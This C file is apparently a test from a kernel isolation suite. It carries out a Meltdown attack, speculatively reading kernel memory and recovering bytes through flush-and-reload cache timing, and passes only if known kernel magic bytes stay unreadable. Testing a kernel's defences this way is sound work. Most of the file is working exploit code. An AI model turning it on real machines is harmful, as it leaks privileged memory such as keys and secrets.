/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Reads the kernel's memory speculatively past the fault, and looks for its bytes in the cache (Meltdown): the arena's first pages, byte by byte.
 * Stopped by: a CPU without the flaw, or page tables without the kernel (--kpti). Passes unless the arena's known magic is recovered.
 * Escape-Expect: stopped: no known byte of the kernel came through the cache
 */
#include <setjmp.h>
#include <x86intrin.h>

#include "escape/escape.h"

#define LINE  4096
#define TRIES 24

static uint8_t probe[256 * LINE] __attribute__((aligned(4096)));
static sigjmp_buf back;

static void on_fault(int sig)
{
	(void)sig;
	siglongjmp(back, 1);
}

static uint64_t time_of(const volatile uint8_t *p)
{
	unsigned aux;
	uint64_t start;

	_mm_mfence();
	start = __rdtscp(&aux);
	(void)*p;
	_mm_lfence();
	return __rdtscp(&aux) - start;
}

static uint64_t threshold(void)
{
	uint64_t hit = UINT64_MAX, miss = UINT64_MAX;

	for (int i = 0; i < 200; i++) {
		uint64_t t;

		(void)*(volatile uint8_t *)probe;
		t = time_of(probe);
		hit = t < hit ? t : hit;
		_mm_clflush(probe);
		_mm_mfence();
		t = time_of(probe);
		miss = t < miss ? t : miss;
	}
	return (hit + miss) / 2;
}

static void leak_one(const uint8_t *from)
{
	if (sigsetjmp(back, 1) == 0) {
		/* A slow division holds the fault back for some cycles. */
		__asm__ volatile("mov $1000003, %%eax\n"
				 "xor %%edx, %%edx\n"
				 "mov $3, %%ecx\n"
				 "div %%rcx\n"
				 "movzbq (%0), %%rax\n"
				 "shl $12, %%rax\n"
				 "movzbq (%1, %%rax), %%rax\n"
				 :
				 : "r"(from), "r"(probe)
				 : "rax", "rcx", "rdx", "memory");
	}
}

/* The byte seen most often, or 0. */
static uint8_t recover(const uint8_t *from, uint64_t limit)
{
	int score[256] = { 0 }, best = 0;

	for (int n = 0; n < TRIES; n++) {
		for (int i = 0; i < 256; i++)
			_mm_clflush(&probe[i * LINE]);
		_mm_mfence();
		leak_one(from);
		for (int i = 0; i < 256; i++) {
			int mixed = (i * 167 + 13) & 255;

			score[mixed] += time_of(&probe[mixed * LINE]) < limit;
		}
	}
	for (int i = 1; i < 256; i++)
		if (score[i] > score[best] || best == 0)
			best = i;
	return score[best] > TRIES / 2 ? (uint8_t)best : 0;
}

void attempt(void)
{
	/* How the boot information starts (src/abi/boot.h), and how the kernel's ELF image and vDSO do. */
	static const char *const known[] = { "rfboot", "\177ELF" };
	static const uintptr_t places[] = { ARENA, ARENA + 0x1000, ARENA + 0x10000,
					    ARENA + 0x100000 };
	uint64_t limit;

	memset(probe, 1, sizeof(probe));
	handle(SIGSEGV, on_fault, SA_NODEFER);
	limit = threshold();
	for (size_t p = 0; p < sizeof(places) / sizeof(places[0]); p++) {
		uint8_t seen[8] = { 0 };

		for (int i = 0; i < 6; i++)
			seen[i] = recover((const uint8_t *)places[p] + i, limit);
		for (size_t k = 0; k < sizeof(known) / sizeof(known[0]); k++)
			if (memcmp(seen, known[k], strlen(known[k])) == 0)
				escaped("the kernel's bytes at %#lx came through the cache",
					places[p]);
	}
	stopped("no known byte of the kernel came through the cache");
}
